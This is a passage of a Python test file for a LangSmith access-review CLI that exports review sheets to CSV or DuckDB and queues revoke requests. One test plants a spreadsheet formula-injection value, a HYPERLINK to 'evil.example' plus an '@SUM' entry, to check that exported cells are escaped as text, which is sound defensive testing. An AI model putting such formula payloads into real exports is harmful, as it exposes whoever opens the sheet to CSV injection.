    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", out, "--dry-run", "--json")
    flagged = {o["grant_id"]: o["admin_access_remains"] for o in json.loads(stdout)["outcomes"]}
    assert flagged == {admin_row["grant_id"]: True, member_row["grant_id"]: False}
    note = "note: Admin access to this workspace remains through the organization role"
    for dry_run in (["--dry-run"], []):
        code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", out, *dry_run)
        assert code == 0, err
        assert stdout.count(note) == 1 and "2 marked revoke: 2 " in stdout, stdout


class _CountingDatabase(AccessDatabase):
    """The test's database, keeping the text of every statement its connections run."""

    statements: list[str] = []

    @contextlib.contextmanager
    def connect(self, path=None, **kwargs):
        with super().connect(path, **kwargs) as conn:
            yield _CountingConnection(conn, self.statements)


class _CountingConnection:
    def __init__(self, conn, statements: list[str]):
        self._conn, self._statements = conn, statements

    def execute(self, sql, *args, **kwargs):
        self._statements.append(sql)
        return self._conn.execute(sql, *args, **kwargs)

    def __getattr__(self, name):
        return getattr(self._conn, name)


def test_the_grants_of_a_sheet_are_read_once_not_once_per_marked_row(env, tmp_path, capsys):
    # Each read of grant_history scans it whole (~25 ms at 20,000 members): per marked row, a
    # review of thousands of rows held the writer lease for minutes (benchmarks/review_bench.py).
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    exported = read_sheet(sheet)
    counting = _CountingDatabase(database.path)

    def history_reads(marks: int, dry_run: bool) -> int:
        rows = [dict(row) for row in exported]
        for row in active_rows(rows)[:marks]:
            row["decision"] = "revoke"
        write_sheet(sheet, rows)
        counting.statements.clear()
        result = queue_revokes(counting, read_csv_sheet(sheet), reviewer="ada@example.com", dry_run=dry_run)
        assert len(result.with_status("would_queue" if dry_run else "queued")) == marks
        return sum("grant_history" in statement for statement in counting.statements)

    few = history_reads(2, dry_run=True)
    assert history_reads(8, dry_run=True) == few
    assert history_reads(8, dry_run=False) == few


def test_a_queued_row_runs_no_more_statements_than_queueing_its_revoke_alone(env, tmp_path, capsys):
    # What a queued row is noted with (SCIM, Organization Admin) comes from the sheet's facts and
    # what the queue resolved: no statement of its own per row beside the queue's.
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    exported = read_sheet(sheet)
    active = active_rows(exported)
    counting = _CountingDatabase(database.path)

    def import_statements(marked: list[dict]) -> int:
        rows = [dict(row, decision="revoke") if row in marked else row for row in exported]
        write_sheet(sheet, rows)
        counting.statements.clear()
        result = queue_revokes(counting, read_csv_sheet(sheet), reviewer="ada@example.com")
        assert len(result.with_status("queued")) == len(marked)
        return len(counting.statements)

    per_row = (import_statements(active[2:8]) - import_statements(active[:2])) / 4
    alone = active[8]
    with counting.writer_lease("test"), counting.connect() as conn:
        counting.statements.clear()
        queued = queue.submit_on(conn, queue.ChangeRequest(
            "revoke", alone["user_id"], alone["workspace_id"], alone["role_id"], "review", "ada@example.com"))
        assert queued.status == "pending"
    assert per_row <= len(counting.statements)


def test_a_grant_revoked_twice_since_it_was_given_is_done_by_the_latest_revoke(env, tmp_path, capsys):
    sandbox, org, database = env
    sheet = exported_with_one_revoke(capsys, tmp_path)
    assert run_cli(capsys, "review", "queue-revokes", "--file", sheet)[0] == 0
    assert provision().success
    [applied] = list_requests("applied")
    # A second applied revoke of the grant, later (as a run whose answer was lost, applied again).
    with duckdb.connect(str(database.path)) as conn:
        conn.execute("INSERT INTO main.provisioning_requests SELECT * REPLACE ('later-revoke' AS request_id, "
                     "updated_at + INTERVAL 1 MINUTE AS updated_at) FROM main.provisioning_requests "
                     "WHERE request_id = ?", [applied["request_id"]])
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
    assert code == 0, stdout
    [outcome] = json.loads(stdout)["outcomes"]
    assert outcome["status"] == "duplicate" and outcome["duplicate_of"] == "later-revoke", outcome


def test_a_sheet_with_no_row_marked_records_nothing_and_leaves_the_database_as_it_was(env, tmp_path, capsys):
    # A sheet sent back unmarked (or imported before anyone marked it): nothing to queue, so no
    # writer lease and no publish that would replace the analysts' copy under their queries.
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    before = database.path.stat()
    for dry_run in (["--dry-run"], []):
        code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet, *dry_run)
        assert code == 0 and ", 0 marked revoke: 0 " in stdout, (stdout, err)
        assert "No row is marked revoke: nothing to queue." in err, err
    after = database.path.stat()
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)
    assert request_count(database) == 0


def test_a_blank_reviewer_or_reason_given_to_queue_revokes_is_none_given(env, tmp_path, capsys):
    # As the command line's blank --reviewer and --reason: the API's callers get the defaults too.
    sandbox, org, database = env
    sheet = exported_with_one_revoke(capsys, tmp_path)
    result = queue_revokes(database, read_csv_sheet(sheet), reviewer=" \t", reason="  ")
    assert [outcome.status for outcome in result.outcomes] == ["queued"]
    [pending] = list_requests("pending")
    assert (pending["requested_by"], pending["reason"]) == (getpass.getuser(), "access review (review.csv)")


def test_the_default_reason_names_the_sheets_file_even_where_its_path_holds_a_colon(env, tmp_path, capsys):
    # A folder named for the time of the review ("review 12:00"), or a file "Q4: review.csv": the
    # reason recorded by default names the file the reviewer marked, not a piece of its path.
    sandbox, org, database = env
    exported = tmp_path / "exported.csv"
    assert run_cli(capsys, "review", "export", "--out", exported)[0] == 0
    rows = read_sheet(exported)
    folder = tmp_path / "review 2026-11-01T12:00"
    folder.mkdir()
    names = ("review.csv", "Q4: review.csv")
    for name, row in zip(names, active_rows(rows)[:2], strict=True):
        write_sheet(folder / name, [{**row, "decision": "revoke"}])
        assert run_cli(capsys, "review", "queue-revokes", "--file", folder / name)[0] == 0
    assert sorted(r["reason"] for r in list_requests("pending")) == sorted(f"access review ({name})" for name in names)


def test_the_longest_reason_a_request_takes_may_be_given_with_reason(env, tmp_path, capsys):
    # --reason is checked as a request's reason is, not as a name (which may be far shorter).
    sandbox, org, database = env
    sheet = exported_with_one_revoke(capsys, tmp_path)
    reason = "r" * queue.MAX_TEXT_CHARS
    code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--reason", reason)
    assert code == 0, (stdout, err)
    [pending] = list_requests("pending")
    assert pending["reason"] == reason


def test_a_grant_given_again_right_after_the_time_the_sheet_kept_is_a_later_grant(env, tmp_path, capsys):
    """held_since cut to the second, minute or day says the exported grant started within that
    second, minute or day: a grant whose start is the first moment after it was given again.
    A time written in another offset is the same time."""
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    second, minute, day, same_day, offset = active_rows(rows)[:5]
    written = {second["grant_id"]: "2026-11-01T23:59:59Z", minute["grant_id"]: "2026-11-01 23:59",
               day["grant_id"]: "2026-11-01", same_day["grant_id"]: "2026-11-02"}
    with duckdb.connect(str(database.path)) as conn:  # as a sync after the grants were given again
        for grant_id in written:
            conn.execute("UPDATE main.grant_history SET valid_from = TIMESTAMPTZ '2026-11-02 00:00:00+00' "
                         "WHERE grant_id = ? AND valid_to IS NULL", [grant_id])
    for row in (second, minute, day, same_day):
        row.update(decision="revoke", held_since=written[row["grant_id"]])
    # The export's 07:07:07Z as 02:07:07-05:00.
    exported = datetime.fromisoformat(offset["held_since"].replace("Z", "+00:00"))
    offset.update(decision="revoke", held_since=exported.astimezone(timezone(timedelta(hours=-5))).isoformat())
    write_sheet(sheet, rows)
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
    assert code == 2
    outcomes = {o["grant_id"]: o for o in json.loads(stdout)["outcomes"]}
    for row in (second, minute, day):
        assert outcomes[row["grant_id"]]["status"] == "rejected", outcomes[row["grant_id"]]
        assert "was granted again at 2026-11-02T00:00:00Z" in outcomes[row["grant_id"]]["message"]
    assert outcomes[same_day["grant_id"]]["status"] == "would_queue", outcomes[same_day["grant_id"]]
    assert outcomes[offset["grant_id"]]["status"] == "would_queue", outcomes[offset["grant_id"]]


def test_a_workspace_renamed_from_a_name_langsmith_sent_decomposed_is_renamed_not_edited(env, tmp_path, capsys):
    # The former name is compared as the current one is (NFC, any case): the row as exported is
    # "renamed since", not an edit to put back.
    sandbox, org, database = env
    workspace = org.shared_workspaces()[0]
    decomposed = f"E\u0301quipe {workspace.display_name}"
    with duckdb.connect(str(database.path)) as conn:  # the sync stored the name as LangSmith sent it
        for table in ("workspaces", "workspace_history"):
            conn.execute(f"UPDATE main.{table} SET display_name = ? WHERE workspace_id = ?", [decomposed, workspace.id])
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    row = active_rows(rows, workspace.id)[0]
    row.update(decision="revoke", workspace_name=decomposed)
    write_sheet(sheet, rows)
    with duckdb.connect(str(database.path)) as conn:  # renamed since, as a sync records it
        conn.execute("UPDATE main.workspaces SET display_name = 'Platform 2' WHERE workspace_id = ?", [workspace.id])
        conn.execute("INSERT INTO main.workspace_history SELECT * REPLACE ('Platform 2' AS display_name, "
                     "now() AS valid_from, NULL AS valid_to) FROM main.workspace_history WHERE workspace_id = ? "
                     "ORDER BY valid_from DESC LIMIT 1", [workspace.id])
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
    [outcome] = json.loads(stdout)["outcomes"]
    assert code == 2 and outcome["status"] == "rejected", outcome
    assert "renamed since" in outcome["message"] and "Put the row back" not in outcome["message"], outcome


def test_a_deny_policy_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(env, tmp_path, capsys):
    # deny_policy_names is a list written in one cell: a name an admin chose guarded as any other.
    sandbox, org, database = env
    with duckdb.connect(str(database.path)) as conn:  # as if an inventory had listed these policies
        conn.execute("UPDATE main.review_sheet SET deny_policy_names = ['=HYPERLINK(\"http://evil.example\")', "
                     "'No prod;@SUM(1)']")
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    assert {row["deny_policy_names"] for row in read_sheet(sheet)} == {
        '\'=HYPERLINK("http://evil.example"); No prod;\'@SUM(1)'}


def test_a_sheet_exported_to_a_table_in_a_schema_of_its_own_is_queued_from_there(env, tmp_path, capsys):
    sandbox, org, database = env
    review_db = tmp_path / "review.duckdb"
    code, stdout, err = run_cli(capsys, "review", "export", "--out", review_db, "--table", "q4.review")
    assert code == 0 and f"table q4.review in {review_db}" in stdout, (stdout, err)
    with duckdb.connect(str(review_db)) as conn:
        conn.execute("UPDATE q4.review SET decision = 'revoke' WHERE grant_id = (SELECT min(grant_id) FROM q4.review "
                     "WHERE NOT is_disabled)")
    code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--review-db", review_db, "--table", "q4.review",
                                "--dry-run")
    assert code == 0 and "1 marked revoke: 1 would queue" in stdout, (stdout, err)


def test_the_text_report_gives_request_ids_and_says_a_dry_run_recorded_nothing(env, tmp_path, capsys):
    # The ids to look up or cancel with `langsmith-access requests`; a dry run records none and
    # says so, never that its rejections were recorded.
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    queued, mistyped = active_rows(rows)[:2]
    queued["decision"] = "revoke"
    mistyped.update(decision="revoke", grant_id="no-such-grant")
    write_sheet(sheet, rows)
    code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run")
    assert code == 2 and "[" not in stdout, stdout
    assert stdout.rstrip().endswith("1 rejected (dry run: nothing recorded)"), stdout
    assert "Rejected rows are recorded" not in err, err  # nothing was
    code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet)
    assert code == 2 and stdout.rstrip().endswith("1 rejected") and "Rejected rows are recorded" in err, (stdout, err)
    [pending], [rejected] = list_requests("pending"), list_requests("rejected")
    lines = stdout.splitlines()
    assert any(line.startswith("queued") and line.endswith(f"  [{pending['request_id']}]") for line in lines), stdout
    assert any(line.startswith("rejected") and line.endswith(f"  [recorded as {rejected['request_id']}]")
               for line in lines), stdout


def test_a_grant_is_already_revoked_when_its_revoke_was_applied_and_the_sync_shows_it_gone(env, tmp_path, capsys):
    # A sheet of grant_ids alone (no user, workspace or role cells) is done once provisioning took
    # them away. A grant the latest sync still shows is not done, whatever the queue says of it
    # (given back before the sync ran): its revoke would be queued again.
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    gone, held = active_rows(read_sheet(sheet))[:2]
    sheet.write_text(f"grant_id,decision\n{gone['grant_id']},revoke\n{held['grant_id']},revoke\n", encoding="utf-8")
    request_revoke(gone["user_id"], gone["workspace_id"], gone["role_id"], reason="left")
    assert provision().success
    request_revoke(held["user_id"], held["workspace_id"], held["role_id"], reason="left")
    with duckdb.connect(str(database.path)) as conn:
        conn.execute("UPDATE main.provisioning_requests SET status = 'applied', updated_at = now() "
                     "WHERE status = 'pending'")
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
    outcomes = {o["grant_id"]: o for o in json.loads(stdout)["outcomes"]}
    assert code == 0, stdout
    assert outcomes[gone["grant_id"]]["status"] == "duplicate", outcomes[gone["grant_id"]]
    assert outcomes[gone["grant_id"]]["message"].startswith("already revoked: request ")
    assert outcomes[held["grant_id"]]["status"] == "would_queue", outcomes[held["grant_id"]]


def test_a_revoke_that_did_not_end_applied_never_makes_a_gone_grant_already_revoked(env, tmp_path, capsys):
    # The grant left LangSmith some other way (removed by hand) while the revoke queued for it
    # failed: "already revoked: request ... was applied" would name a request that applied nothing.
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    [gone, *_] = active_rows(read_sheet(sheet))
    sheet.write_text(f"grant_id,decision\n{gone['grant_id']},revoke\n", encoding="utf-8")
    request_revoke(gone["user_id"], gone["workspace_id"], gone["role_id"], reason="left")
    assert provision().success
    for status in ("failed", "rejected"):
        with duckdb.connect(str(database.path)) as conn:
            conn.execute("UPDATE main.provisioning_requests SET status = ? WHERE action = 'revoke'", [status])
        code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
        [outcome] = json.loads(stdout)["outcomes"]
        assert outcome["status"] == "rejected" and "unknown grant id" in outcome["message"], (status, outcome)


def test_held_since_is_written_in_utc_whatever_the_machines_time_zone(env, tmp_path, capsys, monkeypatch):
    # DuckDB hands a TIMESTAMPTZ over in the session's (the machine's) zone: the sheet says 'Z'.
    sandbox, org, database = env
    out = tmp_path / "review.csv"
    try:
        with monkeypatch.context() as patch:
            patch.setenv("TZ", "America/New_York")
            time.tzset()
            assert run_cli(capsys, "review", "export", "--out", out)[0] == 0
    finally:
        time.tzset()
    started = dict(query(database.path, "SELECT grant_id, strftime(min(valid_from) AT TIME ZONE 'UTC', "
                                        "'%Y-%m-%dT%H:%M:%SZ') FROM main.grant_history "
                                        "WHERE valid_to IS NULL GROUP BY ALL"))
    rows = read_sheet(out)
    wrong = [(row["held_since"], started[row["grant_id"]]) for row in rows
             if row["held_since"] != started[row["grant_id"]]]
    assert rows and not wrong, wrong[:3]
